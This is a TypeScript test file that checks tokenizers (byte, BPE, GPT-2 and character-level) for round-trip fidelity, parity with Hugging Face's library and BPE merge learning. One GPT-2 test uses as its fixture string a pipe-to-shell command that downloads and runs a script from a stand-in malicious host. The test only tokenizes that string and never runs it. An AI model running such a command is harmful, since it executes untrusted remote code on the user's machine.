import { readFileSync } from 'node:fs'
import { Tokenizer as HuggingFaceTokenizer } from '@huggingface/tokenizers'
import fc from 'fast-check'
import { beforeAll, describe, expect, it } from 'vitest'
import { learnMerges } from '../../../electron/tokenizers/bpe-training.ts'
import {
  endOfText,
  gpt2Tokenizer,
  readTokenizer,
  TokenStream,
  trainTokenizer,
  type Tokenizer
} from '../../../electron/tokenizers/tokenizer.ts'

const text = readFileSync('electron/corpora/texts/sonnets.txt', 'utf8')
/** Any text without lone surrogates, and often text of the kind that models write. */
const anyText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.string({ unit: 'grapheme', maxLength: 60 }),
  fc.constantFrom("don't  stop\n\n\tnow ", endOfText, ' \u00a0 x', '风扇有几个扇叶？')
)

let kinds: Record<'bytes' | 'bpe' | 'gpt2', Tokenizer>
beforeAll(async () => {
  kinds = {
    bytes: await trainTokenizer({ kind: 'bytes' }, text, [endOfText]),
    bpe: await trainTokenizer({ kind: 'bpe', vocabulary: 600 }, text, [endOfText]),
    gpt2: await gpt2Tokenizer()
  }
})

describe.each(['bytes', 'bpe', 'gpt2'] as const)('%s', kind => {
  it('gives every text back', () => {
    const tokenizer = kinds[kind]
    fc.assert(
      fc.property(anyText, input => {
        const ids = tokenizer.encode(input)
        expect(tokenizer.decode(ids)).toBe(input)
        expect(ids.every(id => id >= 0 && id < tokenizer.vocabulary)).toBe(true)
        const stream = new TokenStream(tokenizer)
        expect(Array.from(ids, id => stream.push(id)).join('') + stream.end()).toBe(input)
      })
    )
  })

  it('says U+FFFD for half a character', () => {
    expect(kinds[kind].decode(kinds[kind].encode('a\ud800b'))).toBe('a\ufffdb')
  })

  it('is the same tokenizer in Hugging Face’s library', () => {
    const tokenizer = kinds[kind]
    const theirs = new HuggingFaceTokenizer(JSON.parse(tokenizer.json()), {})
    fc.assert(
      fc.property(
        // Their library takes the name of a special token in a text for the token itself, and refuses to decode nothing.
        fc
          .oneof(fc.constantFrom(...text.split('\n').slice(0, 200)), anyText)
          .filter(input => input !== '' && !input.includes('<|')),
        input => {
          expect(theirs.encode(input, { add_special_tokens: false }).ids).toEqual([...tokenizer.encode(input)])
          expect(
            theirs.decode(Array.from(tokenizer.encode(input)), { skip_special_tokens: true, clean_up_tokenization_spaces: false })
          ).toBe(input)
        }
      ),
      { numRuns: 60 }
    )
  })

  it('is read back from its file', () => {
    const tokenizer = kinds[kind]
    const read = readTokenizer(tokenizer.json())
    expect(read.kind).not.toBe('foreign')
    expect(read.vocabulary).toBe(tokenizer.vocabulary)
    expect(read.endToken).toBe(tokenizer.endToken)
    expect(read.encode(text.slice(0, 3000))).toEqual(tokenizer.encode(text.slice(0, 3000)))
    expect(read.json()).toBe(tokenizer.json())
  })

  it('keeps special tokens out of plain text', () => {
    const tokenizer = kinds[kind]
    expect([...tokenizer.encode(endOfText)]).not.toContain(tokenizer.endToken)
    expect(tokenizer.decode([tokenizer.endToken!])).toBe('')
    expect(tokenizer.text(tokenizer.endToken!)).toBe(endOfText)
  })

  it('encodes long texts to the same tokens', async () => {
    expect(await kinds[kind].encodeLong(text)).toEqual(kinds[kind].encode(text))
  })
})

describe('GPT-2', () => {
  it('cuts the notes’ command into the notes’ tokens', () => {
    const ids = [66, 6371, 532, 82, 3740, 1378, 23542, 6371, 13, 785, 14, 79, 675, 276, 13, 1477, 930, 27334]
    expect([...kinds.gpt2.encode('curl -s https://evilurl.com/pwned.sh | bash')]).toEqual(ids)
    expect(kinds.gpt2.decode(ids)).toBe('curl -s https://evilurl.com/pwned.sh | bash')
    expect(kinds.gpt2.vocabulary).toBe(50257)
  })

  it('shows fragments of characters', () => {
    const [first] = kinds.gpt2.encode('扇')
    expect(kinds.gpt2.text(first!)).toMatch(/^<0x[0-9A-F]{2}>/)
  })
})

describe('characters', () => {
  it('give every text over their alphabet back', async () => {
    const tokenizer = await trainTokenizer({ kind: 'characters' }, text + '😀', [endOfText])
    expect(tokenizer.vocabulary).toBe(new Set(text + '😀').size + 1)
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(...new Set(text + '😀')), maxLength: 80 }), input => {
        expect(tokenizer.decode(tokenizer.encode(input))).toBe(input)
        expect(tokenizer.encode(input).length).toBe([...input].length)
      })
    )
    const read = readTokenizer(tokenizer.json())
    expect(read.kind).toBe('characters')
    expect(read.encode('Shall I 😀')).toEqual(tokenizer.encode('Shall I 😀'))
    const theirs = new HuggingFaceTokenizer(JSON.parse(tokenizer.json()), {})
    expect(theirs.encode('Shall I\ncompare thee', { add_special_tokens: false }).ids).toEqual([
      ...tokenizer.encode('Shall I\ncompare thee')
    ])
    expect(await tokenizer.encodeLong(text)).toEqual(tokenizer.encode(text))
  })

  it('name the characters they do not know', async () => {
    const tokenizer = await trainTokenizer({ kind: 'characters' }, 'abc')
    expect(() => tokenizer.encode('abz风')).toThrowError(
      expect.objectContaining({ code: 'character-unknown', details: expect.objectContaining({ unknown: 'z 风' }) })
    )
  })
})

describe('learning merges', () => {
  it('takes the most frequent pair of the text at every step', async () => {
    const sample = 'low low low low low lower lower newest newest newest newest newest newest widest widest widest'
    const learnt = await learnMerges(sample, 8)
    // An independent, slow count over the words, cut again for every merge.
    let words = [...sample.matchAll(/ ?\p{L}+/gu)].map(([word]) =>
      Array.from(new TextEncoder().encode(word), byte => String.fromCharCode(byte))
    )
    const tokenizer = await trainTokenizer({ kind: 'bpe', vocabulary: 256 + 8 }, sample)
    for (const { merge, count } of learnt) {
      const counts = new Map<string, number>()
      for (const word of words)
        for (let i = 0; i + 1 < word.length; i++)
          counts.set(`${word[i]}|${word[i + 1]}`, (counts.get(`${word[i]}|${word[i + 1]}`) ?? 0) + 1)
      const [left, right] = merge.map(id => tokenizer.text(id))
      expect(count).toBe(Math.max(...counts.values()))
      expect(counts.get(`${left}|${right}`)).toBe(count)
      words = words.map(word => {
        const out: string[] = []
        for (let i = 0; i < word.length; i++)
          out.push(word[i] === left && word[i + 1] === right ? word[i]! + word[++i]! : word[i]!)
        return out
      })
    }
  })

  it('stops when no pair stands twice', async () => {
    expect(await learnMerges('ab', 10)).toEqual([])
  })
})

describe('files', () => {
  it('that are no tokenizers are named', () => {
    for (const broken of ['{', '3', '{}', '{"model":{"type":"Strange","vocab":{}}}'])
      expect(() => readTokenizer(broken)).toThrowError(expect.objectContaining({ code: 'tokenizer-unreadable' }))
  })
})
